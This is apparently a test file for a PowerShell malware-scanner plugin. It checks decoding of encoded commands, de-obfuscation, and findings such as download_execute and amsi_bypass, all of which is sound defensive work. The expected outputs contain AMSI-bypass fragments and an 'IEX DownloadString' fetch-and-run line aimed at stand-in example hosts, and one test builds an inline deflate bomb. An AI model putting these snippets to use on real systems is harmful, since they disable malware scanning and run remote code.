import { deepEqual, equal, match, ok } from "node:assert/strict";
import powershell from "../../plugins/powershell.ts";
import { sh, sha256, tempDir } from "../helpers.ts";
import { scriptFiles } from "../fixtures/script_files.ts";
import { child, damagedCopies, findingIds, scanWith } from "./script_helpers.ts";

Deno.test("powershell: -EncodedCommand decodes as base64 -d | iconv -f UTF-16LE does", async () => {
  const { files, manifest } = await scriptFiles();
  const line = await Deno.readTextFile(files["oneliner.txt"]);
  const b64 = line.trim().split(" ").at(-1)!;
  equal(b64, manifest.oneliner_b64);
  const dir = await tempDir();
  await Deno.writeTextFile(`${dir}/cmd.b64`, b64);
  const iconv = await sh("bash", ["-c", `base64 -d '${dir}/cmd.b64' | iconv -f UTF-16LE -t UTF-8`]);
  await Deno.remove(dir, { recursive: true });
  equal(iconv, manifest.oneliner_script);

  const res = await scanWith(powershell, line);
  deepEqual(res.errors, []);
  const decoded = child(res, "encoded_command_1.ps1");
  equal(decoded.sha256, sha256(iconv));
  equal(decoded.payload_meta.extra_data.source, "-EncodedCommand");
  deepEqual(res.results.encoded_commands, [{
    offset: line.indexOf(b64),
    base64_length: b64.length,
    decoded: true,
    script: iconv,
  }]);
  deepEqual(res.results.keywords, {
    EncodedCommand: 1,
    Hidden: 1,
    Bypass: 1,
    NoProfile: 1,
    NonInteractive: 1,
  });
  deepEqual(res.results.urls, ["https://dl.example.net/stage2.ps1"]);
  deepEqual(findingIds(res), ["encoded_command", "execution_policy_bypass", "hidden_window"]);

  // The decoded script, scanned in turn, downloads and runs code.
  const inner = await scanWith(powershell, decoded.content);
  deepEqual(findingIds(inner), ["download_execute"]);
  deepEqual(inner.results.cmdlets, { "New-Object": 1 });
});

Deno.test("powershell: every abbreviation of -EncodedCommand, and a blob that is not UTF-16 text", async () => {
  const b64 = btoa(
    String.fromCharCode(...new TextEncoder().encode("Get-Date")).split("").flatMap((c) => [c, "\0"])
      .join(""),
  );
  for (const flag of ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "-ENCODEDC"]) {
    const res = await scanWith(powershell, `pwsh ${flag} ${b64}`);
    equal(child(res, "encoded_command_1.ps1").text, "Get-Date", flag);
  }
  const junk = await scanWith(
    powershell,
    `powershell -enc ${btoa("not utf-16 at all, plain ascii")}`,
  );
  equal(junk.extracted.length, 0);
  equal(junk.results.encoded_commands[0].decoded, false);
});

Deno.test("powershell: obfuscated.ps1 — format operators, [char], backticks, deflated FromBase64String", async () => {
  const { files, manifest } = await scriptFiles();
  const text = await Deno.readTextFile(files["obfuscated.ps1"]);
  const res = await scanWith(powershell, text);
  deepEqual(res.errors, []);
  // Python's zlib inflates the same blob (raw deflate, as .NET's DeflateStream).
  const b64 = /FromBase64String\('([^']+)'\)/.exec(text)![1];
  const inflated = await sh("python3", [
    "-c",
    "import base64,sys,zlib; sys.stdout.write(zlib.decompress(base64.b64decode(sys.argv[1]), -15).decode())",
    b64,
  ]);
  equal(inflated, manifest.deflated_script);
  const blob = child(res, "base64_1.ps1");
  equal(blob.sha256, sha256(inflated));
  equal(blob.payload_meta.extra_data.compression, "deflate");
  const clear = child(res, "deobfuscated.ps1").text;
  for (
    const want of [
      "'System.Management.Automation.AmsiUtils'",
      "$amsi.GetField('amsiInitFailed',",
      "$url = 'https://upd.example.com/a.ps1'",
      "IEX ($wc.DownloadString($url))",
      "$name = 'calc'",
    ]
  ) ok(clear.includes(want), `de-obfuscated script lacks ${want}:\n${clear}`);
  deepEqual(res.results.deobfuscation, {
    backticks: 2,
    char_casts: 4,
    concatenations: 2,
    format_operators: 2,
    char_joins: 0,
  });
  deepEqual(res.results.urls, ["https://upd.example.com/a.ps1"]);
  deepEqual(findingIds(res), ["amsi_bypass", "download_execute", "obfuscated"]);
  const inner = await scanWith(powershell, blob.content);
  deepEqual(inner.results.cmdlets, { "Write-Output": 1, "Start-Process": 1 });
});

Deno.test("powershell: damaged copies give results; huge and hostile input stays bounded", async () => {
  const { files } = await scriptFiles();
  for (const name of ["oneliner.txt", "obfuscated.ps1"] as const) {
    for (const copy of damagedCopies(await Deno.readFile(files[name]))) {
      const res = await scanWith(powershell, copy);
      ok(Array.isArray(res.results.findings), name);
    }
  }
  const chars = "$x = " + Array.from({ length: 50_000 }, () => "[char]65").join("+");
  const res = await scanWith(powershell, chars);
  equal(res.results.deobfuscation.char_casts, 50_000);
  match(child(res, "deobfuscated.ps1").text, /^\$x = 'A{50000}'$/);
  const cut = await scanWith(powershell, "Write-Output 'x'\n".repeat(1000), { max_chars: 100 });
  equal(cut.results.truncated, true);
  // A bomb: 64 MiB of zeros deflated, beyond the inflate cap, is reported, not inflated.
  const bomb = await sh("python3", [
    "-c",
    "import base64,zlib; c=zlib.compressobj(9,zlib.DEFLATED,-15); print(base64.b64encode(c.compress(bytes(65<<20))+c.flush()).decode())",
  ]);
  const b = await scanWith(
    powershell,
    `IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${bomb.trim()}'), 'Decompress'))).ReadToEnd()`,
  );
  match(String(b.results.base64_blobs[0].compression_error), /deflate: /);
});
